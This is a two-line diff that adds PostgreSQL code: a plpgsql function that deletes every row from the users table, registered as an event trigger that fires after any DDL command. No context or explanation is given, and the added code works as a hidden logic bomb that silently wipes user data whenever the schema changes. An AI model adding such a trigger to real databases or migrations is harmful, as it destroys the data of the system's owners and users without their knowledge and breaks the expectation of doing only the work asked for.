@@ -1,0 +1,2 @@
+CREATE FUNCTION e() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN DELETE FROM users; END $$;
+CREATE EVENT TRIGGER et ON ddl_command_end EXECUTE FUNCTION e();
